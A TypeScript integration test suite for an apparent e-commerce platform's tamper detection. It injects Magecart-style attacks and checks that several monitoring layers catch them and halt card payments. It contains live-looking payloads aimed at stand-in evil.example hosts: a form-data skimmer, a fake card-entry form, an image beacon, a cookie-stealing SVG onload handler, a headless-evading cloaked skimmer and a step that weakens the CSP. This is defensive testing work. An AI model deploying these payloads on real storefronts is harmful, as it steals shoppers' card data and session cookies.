import type { FastifyInstance } from 'fastify';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DEMO_PASSWORD } from '../../src/demo/demo-credentials.ts';
import { seedDemo } from '../../src/demo/seed-demo.ts';
import { sanitizeDescription } from '../../src/domains/catalog/description-sanitizer.ts';
import type { MonitorProfile } from '../../src/domains/monitor/monitor.tables.ts';
import { checkVerifierHeartbeat } from '../../src/domains/security/verifier-heartbeat.service.ts';
import { type MonitorRunSettings, runMonitorWalk } from '../../src/monitor/monitor-walk.run.ts';
import type { SessionCache } from '../../src/monitor/shop-walk.ts';
import type { Database } from '../../src/platform/db/database.ts';
import type { Platform } from '../../src/platform/http/platform.ts';
import { loadApprovedScripts } from '../../src/platform/http/script-inventory.ts';
import { StaticAssets } from '../../src/platform/http/static-assets.ts';
import { createLogger } from '../../src/platform/log/logger.ts';
import { ROUTES } from '../../src/web/routes.ts';
import { launchChromium } from '../chromium.ts';
import { createTestApp } from '../test-app.ts';
import { createTestDatabase } from '../test-database.ts';
import {
  buyerVisit,
  cardsStopped,
  dbNow,
  detectingLayers,
  eventsSince,
  listen,
  MONITOR_EMAIL,
  resetProtection,
  SHOP,
  SignedTree,
  tamperPlugin,
  tamperState,
  timingOf,
  until,
} from './attack-harness.ts';

/**
 * BRIEF's attack catalogue against a running Oroshi (issue 7, item 8). Each scenario tampers the
 * way an attacker would — files on disk (checked by the real verifier over a signed copy of the
 * tree), database texts written directly as the owner, and what the restarted process then sends
 * (a second app instance on the same database) — then lets the ordinary traffic happen: a real
 * buyer's Chromium, the browser monitor's walk and a verifier pass. It asserts that at least two
 * independent layers raised the deviation and that card payments for the shop stopped, and prints
 * the seconds from tampering to detection and to containment.
 */

const log = createLogger('silent');
let database: Database;
let clean: FastifyInstance;
let tampered: FastifyInstance;
let tamperedPlatform: Platform;
let cleanUrl: string;
let tamperedUrl: string;
let tenantId: string;
let browser: Browser;
let tree: SignedTree;
const sessions: SessionCache = new Map();
const timings: { id: number; name: string; layers: string[]; detected_s: number | null; contained_s: number | null }[] = [];

function monitorSettings(url: string): MonitorRunSettings {
  return {
    database,
    log,
    config: { BASE_DOMAIN: undefined, pathTenants: true, baseOrigin: url, CHROMIUM_PATH: '/usr/bin/chromium', APP_ENV: 'test' },
    platformUrl: url,
    credentials: { email: MONITOR_EMAIL, password: DEMO_PASSWORD },
    sessions,
    autoApproveFirstBaseline: true,
  };
}

const monitorWalk = (profile: MonitorProfile = 'desktop', url = tamperedUrl) => runMonitorWalk(monitorSettings(url), { tenantId, profile, reason: 'attack-suite' });
const buyer = (profile: MonitorProfile = 'desktop', then?: Parameters<typeof buyerVisit>[2]['then']) =>
  buyerVisit(browser, tamperedUrl, { profile, password: DEMO_PASSWORD, then });

beforeAll(async () => {
  database = await createTestDatabase();
  const built = await createTestApp(database);
  clean = built.app;
  await seedDemo(database, built.platform.secrets, log);
  cleanUrl = await listen(clean);
  const second = await createTestApp(database, { routes: [tamperPlugin(database), ...ROUTES] });
  tampered = second.app;
  tamperedPlatform = second.platform;
  tamperedUrl = await listen(tampered);
  tenantId = String((await database.ownerExec(`SELECT id FROM tenants WHERE slug = $1`, [SHOP])).rows[0]!.id);
  browser = await launchChromium();
  tree = new SignedTree();
  // The approved baselines: one walk per profile of the unchanged site.
  for (const profile of ['desktop', 'mobile'] as MonitorProfile[]) {
    const first = await monitorWalk(profile, cleanUrl);
    if (first.error) throw new Error(`baseline walk failed: ${first.error}`);
  }
}, 240_000);

afterAll(async () => {
  console.info(`attack suite timings:\n${timings.map((t) => `  ${t.id}. ${t.name}: layers ${t.layers.join('+')} · detected ${t.detected_s}s · contained ${t.contained_s}s`).join('\n')}`);
  await browser?.close();
  await clean?.close();
  await tampered?.close();
  await database?.close();
  tree?.remove();
});

beforeEach(async () => {
  tamperState.html = null;
  tree.restore();
  await resetProtection(database);
});

/** The common ending: at least two layers, cards stopped, timing printed. */
async function expectCaught(id: number, name: string, since: Date, options: { atLeast?: number; mustInclude?: string[] } = {}): Promise<string[]> {
  await until(async () => detectingLayers(await eventsSince(database, tenantId, since)).length >= (options.atLeast ?? 2), 3000);
  const events = await eventsSince(database, tenantId, since);
  const layers = detectingLayers(events);
  const timing = timingOf(events, since);
  timings.push({ id, name, layers, ...timing });
  console.info(`${id}. ${name}: layers ${layers.join('+')} · detected ${timing.detected_s}s · contained ${timing.contained_s}s · ${[...new Set(events.map((e) => `${e.severity}:${e.layer}:${e.kind}`))].join(', ')}`);
  expect(layers.length, `layers: ${layers.join(',')}`).toBeGreaterThanOrEqual(options.atLeast ?? 2);
  for (const layer of options.mustInclude ?? []) expect(layers).toContain(layer);
  expect(await cardsStopped(database, tenantId)).toBe(true);
  return layers;
}

const SKIM_JS = `;(function(){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/c.gif?d='+encodeURIComponent(JSON.stringify([...document.forms].map(function(f){return new FormData(f)})))})})();\n`;

describe('attack catalogue', () => {
  it('0. control: unchanged pages walked by buyer, monitor and verifier raise nothing', async () => {
    const since = await dbNow(database);
    await buyer('desktop');
    await buyer('mobile');
    for (const profile of ['desktop', 'mobile'] as MonitorProfile[]) {
      const walk = await monitorWalk(profile);
      expect(walk.error).toBeNull();
      expect(walk.judgement?.outcome).toBe('clean');
    }
    const pass = await tree.verify(database);
    expect(pass.problems).toBe(0);
    await new Promise((r) => setTimeout(r, 500));
    expect(await eventsSince(database, tenantId, since)).toEqual([]);
    expect(await cardsStopped(database, tenantId)).toBe(false);
  }, 120_000);

  it('1. code appended to a first-party JS bundle', async () => {
    const since = await dbNow(database);
    tree.tamper('static/js/postal-fill.js', (js) => js + SKIM_JS);
    // The process restarted on the tampered files: its inventory check refuses the changed bundle.
    const assets = new StaticAssets(tree.file('static/'));
    const originalAssets = tamperedPlatform.assets;
    const originalScripts = tamperedPlatform.scripts;
    Object.assign(tamperedPlatform, { assets, scripts: loadApprovedScripts(assets).approved });
    try {
      await buyer('desktop');
      await monitorWalk('desktop');
      await tree.verify(database);
    } finally {
      Object.assign(tamperedPlatform, { assets: originalAssets, scripts: originalScripts });
    }
    await expectCaught(1, 'code appended to a first-party JS bundle', since, { mustInclude: ['build_verifier', 'render_refusal'] });
  }, 120_000);

  it('2. external <script> injected through a DB-stored text (product description, bypassing the sanitiser)', async () => {
    const saved = await database.ownerExec(`SELECT id, description_html FROM products WHERE tenant_id = $1`, [tenantId]);
    const since = await dbNow(database);
    await database.ownerExec(`UPDATE products SET description_html = description_html || '<script src="https://cdn.evil.example/skim.js"></script>' WHERE tenant_id = $1`, [tenantId]);
    try {
      await buyer('desktop');
      await monitorWalk('desktop');
      await tree.verify(database);
      await expectCaught(2, 'external <script> through a DB-stored text', since, { mustInclude: ['db_text_verifier', 'render_refusal'] });
    } finally {
      for (const row of saved.rows) await database.ownerExec(`UPDATE products SET description_html = $2 WHERE id = $1`, [row.id, row.description_html]);
    }
  }, 120_000);

  it('3. fake card form on the shop’s own checkout ("payment failed, enter again")', async () => {
    const since = await dbNow(database);
    const fakeForm =
      '<section class="panel"><p class="alert alert--error">決済に失敗しました。もう一度カード情報を入力してください。</p><form method="post" action="https://pay-oroshi.evil.example/collect"><input name="cardnumber" autocomplete="cc-number" inputmode="numeric" maxlength="19"><input name="cvc" autocomplete="cc-csc" maxlength="4"><button type="submit">再送信</button></form></section>';
    tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${fakeForm}\n`);
    tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</main>', `${fakeForm}</main>`) : html);
    await buyer('desktop', async (page) => {
      // The buyer falls for it: types a card and submits. The CSP's form-action stops the post and reports it.
      if ((await page.locator('input[name="cardnumber"]').count()) === 0) return;
      await page.fill('input[name="cardnumber"]', '4111111111111111');
      await page.fill('input[name="cvc"]', '123');
      await page.locator('form[action*="evil"] button').click().catch(() => undefined);
    });
    await monitorWalk('desktop');
    await tree.verify(database);
    await expectCaught(3, 'fake card form before the PSP step', since, { atLeast: 3, mustInclude: ['browser_monitor', 'csp_report', 'build_verifier'] });
  }, 120_000);

  it('4. redirect hijack: the form that sends the buyer on is pointed at a look-alike', async () => {
    const since = await dbNow(database);
    tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// action -> https://pay-oroshi.evil.example\n`);
    tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace(/action="([^"]*\/checkout)"/g, 'action="https://pay-oroshi.evil.example$1"') : html);
    await buyer('desktop', async (page) => {
      const form = page.locator('form[action*="evil.example"]');
      if ((await form.count()) === 0) return;
      await form.locator('[type="submit"]').first().click().catch(() => undefined);
    });
    await monitorWalk('desktop');
    await tree.verify(database);
    await expectCaught(4, 'redirect hijack to a look-alike', since, { mustInclude: ['csp_report'] });
  }, 120_000);

  it('5. exfiltration by image beacon (new Image().src = …?d=)', async () => {
    const since = await dbNow(database);
    const beacon = `<script>new Image().src='https://cdn.evil.example/b.gif?d='+encodeURIComponent(document.body.innerText.slice(0,200))</script>`;
    tree.tamper('src/platform/views/layout.tsx', (src) => `${src}\n// ${beacon}\n`);
    tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</body>', `${beacon}</body>`) : html);
    await buyer('desktop');
    await monitorWalk('desktop');
    await tree.verify(database);
    await expectCaught(5, 'image beacon', since, { atLeast: 3, mustInclude: ['csp_report', 'browser_monitor'] });
  }, 120_000);

  it('9. inline handler in an SVG (<svg onload=…>) stored in a description', async () => {
    const payload = `<svg onload="new Image().src='https://cdn.evil.example/s.gif?d='+document.cookie"></svg>`;
    // Through the shop's editor the sanitiser strips it on write (layer: sanitiser-on-write refusal).
    const sanitised = sanitizeDescription(`<p>説明</p>${payload}`);
    expect('html' in sanitised ? sanitised.html : '').not.toMatch(/onload|<svg/i);
    const saved = await database.ownerExec(`SELECT id, description_html FROM products WHERE tenant_id = $1`, [tenantId]);
    const since = await dbNow(database);
    // The attacker with database access writes it behind the sanitiser's back.
    await database.ownerExec(`UPDATE products SET description_html = description_html || $2 WHERE tenant_id = $1`, [tenantId, payload]);
    try {
      await buyer('desktop');
      await monitorWalk('desktop');
      await tree.verify(database);
      await expectCaught(9, 'inline handler in an SVG', since, { mustInclude: ['db_text_verifier', 'render_refusal'] });
    } finally {
      for (const row of saved.rows) await database.ownerExec(`UPDATE products SET description_html = $2 WHERE id = $1`, [row.id, row.description_html]);
    }
  }, 120_000);

  it('13. server-side tampering of the payment module on disk (this incident)', async () => {
    const since = await dbNow(database);
    const redirect = 'https://pay-oroshi.evil.example/checkout';
    tree.tamper('src/domains/payments/card-payment.service.ts', (src) => `${src}\nexport const __skim = ${JSON.stringify(redirect)};\n`);
    // What the tampered module makes the process send: the pay step posts to the attacker.
    tamperState.html = (html) => html.replace(/action="([^"]*\/checkout(?:\/place)?)"/g, `action="${redirect}"`);
    await tree.verify(database);
    await buyer('desktop', async (page) => {
      const form = page.locator('form[action*="evil.example"]');
      if ((await form.count()) > 0) await form.locator('[type="submit"]').first().click().catch(() => undefined);
    });
    await monitorWalk('desktop');
    await expectCaught(13, 'payment module tampered on disk', since, { mustInclude: ['build_verifier'] });
  }, 120_000);

  it('13b. tamper with the verifier itself: caught by the running verifier, and its silence by the dead-man’s switch', async () => {
    const since = await dbNow(database);
    tree.tamper('src/verifier/verifier-pass.ts', (src) => src.replace('return { at, manifestOk: true', 'return { at, manifestOk: true, check: { modified: [], added: [], missing: [] } as never, manifestError: null, manifestCreatedAt: null, manifestKeyId: "", verifierFilesTouched: [] };\n  return { at, manifestOk: true'));
    const pass = await tree.verify(database);
    expect(pass.raised.map((r) => r.severity)).toContain('critical');
    const kinds = (await eventsSince(database, tenantId, since)).map((e) => e.kind);
    expect(kinds).toContain('build.verifier-tampered');
    // The attacker then stops the verifier: no heartbeat for two intervals.
    await database.ownerExec(`UPDATE verifier_heartbeats SET checked_at = now() - interval '5 minutes'`);
    await checkVerifierHeartbeat(database, { intervalSeconds: 30, since: new Date(Date.now() - 3_600_000) });
    await expectCaught(13.5, 'tamper with the verifier', since, { mustInclude: ['build_verifier', 'dead_mans_switch'] });
  }, 60_000);

  it('12. cloaked skimmer: checkout only, mobile only, skips the monitor’s identity and headless browsers', async () => {
    const since = await dbNow(database);
    const skimmer = `<script>if(!navigator.webdriver&&!/Headless/.test(navigator.userAgent)){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/m.gif'});document.currentScript.remove()}</script>`;
    tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${skimmer}\n`);
    let servedToMonitor = 0;
    let servedToBuyer = 0;
    tamperState.html = (html, ctx) => {
      if (!ctx.path.endsWith('/checkout') || !/Mobile/.test(ctx.userAgent)) return html;
      if (ctx.userEmail === MONITOR_EMAIL) {
        servedToMonitor++;
        return html;
      }
      servedToBuyer++;
      return html.replace('</body>', `${skimmer}</body>`);
    };
    const walk = await monitorWalk('mobile');
    expect(walk.judgement?.outcome).toBe('clean');
    expect(servedToMonitor).toBeGreaterThan(0);
    await buyer('mobile');
    expect(servedToBuyer).toBeGreaterThan(0);
    await tree.verify(database);
    const layers = await expectCaught(12, 'cloaked skimmer', since, { mustInclude: ['csp_report', 'build_verifier'] });
    expect(layers).not.toContain('browser_monitor');
  }, 120_000);

  it('15. security headers weakened or removed (CSP dropped / unsafe-inline / moved to <meta>)', async () => {
    const since = await dbNow(database);
    tree.tamper('src/platform/http/security-headers.ts', (src) => `${src}\n// moved CSP to <meta>, added 'unsafe-inline'\n`);
    tamperState.html = (html, ctx, reply) => {
      if (!ctx.path.endsWith('/checkout')) return html;
      const csp = String(reply.getHeader('content-security-policy') ?? '');
      reply.removeHeader('content-security-policy');
      const weakened = csp.replace(/script-src [^;]*/, "script-src 'self' 'unsafe-inline'").replace(/;\s*report-uri [^;]*/, '');
      return html.replace('<head>', `<head><meta http-equiv="Content-Security-Policy" content="${weakened.replace(/"/g, '&quot;')}">`);
    };
    await buyer('desktop');
    await monitorWalk('desktop');
    await tree.verify(database);
    await expectCaught(15, 'security headers weakened', since, { mustInclude: ['browser_monitor', 'build_verifier'] });
  }, 120_000);

  it.todo('6. exfiltration through an allowed analytics endpoint — missing: the CSP allows no analytics host, so the scenario needs a configured allowed endpoint to abuse; not built');
  it.todo('7. exfiltration over WebSocket — to write: inline/injected script opening wss://; connect-src report + monitor request-origin diff are the expected layers');
  it.todo('8. payload hidden in an uploaded image/favicon and eval’ed by a loader — to write: upload via the catalog editor, loader injected as in 5; expected layers csp_report (eval/script-src) + browser_monitor');
  it.todo('10. payload carried in a stylesheet — to write: tamper static/css/app.css (build_verifier) + injected @import/url() beacon (csp style-src/img-src report)');
  it.todo('11. trusted dependency turned malicious — to write: edit a node_modules file in the signed copy (the SignedTree spec covers src/static only; add production dependency dirs) + its runtime effect');
  it.todo('14. admin account takeover followed by a malicious setting — missing: no settings_change events are raised by the settings screens (layer exists in SECURITY_LAYERS but nothing raises it); the audit log records the change but does not alert');
});
